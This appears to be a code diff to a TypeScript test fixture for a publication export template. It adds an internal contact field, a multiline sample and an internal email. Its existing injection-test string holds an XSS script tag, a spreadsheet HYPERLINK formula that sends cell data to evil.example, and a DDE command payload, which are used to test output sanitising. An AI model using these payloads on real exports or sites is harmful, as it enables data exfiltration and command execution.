@@ -42,6 +42,12 @@ export const PUBLICATION_TEST_TEMPLATE: TemplateDefinition = (() => {
             label: { ja: '総括', en: 'Summary' },
             required: true,
           },
+          {
+            key: 'contact',
+            type: 'text',
+            label: { ja: '連絡先（内線）', en: 'Contact (extension)' },
+            visibility: 'internal',
+          },
         ],
       },
       {
@@ -121,6 +127,11 @@ export const PUBLICATION_TEST_TEMPLATE: TemplateDefinition = (() => {
 })();
 
 export const INTERNAL_SECRET = '内部限り：庁内調整中の非公開メモ';
+/** A two-line answer with a lone CR too, and no comma or quote (so nothing else forces quoting). */
+export const MULTILINE_TEXT =
+  '講座を12回開催した。\n参加者の満足度は目標を上回った。\r次年度も継続する。';
+/** An internal field of a public block (like the management sheet's 内線). */
+export const INTERNAL_CONTACT = 'naisen-4321@internal.example';
 export const INJECTION_TEXT =
   '<script>alert("x")</script>\n=HYPERLINK("http://evil.example/?q="&A1,"click")\n+cmd|\' /C calc\'!A0';
 
@@ -131,7 +142,9 @@ export function publicationContent(i: number, sectionId: string, fiscalYear: num
   return {
     identity: {
       section: sectionId,
-      summary: i === 0 ? INJECTION_TEXT : `事業${i + 1}は計画どおり進んだ。`,
+      summary:
+        i === 0 ? INJECTION_TEXT : i === 2 ? MULTILINE_TEXT : `事業${i + 1}は計画どおり進んだ。`,
+      contact: INTERNAL_CONTACT,
     },
     indicators: {
       table: {
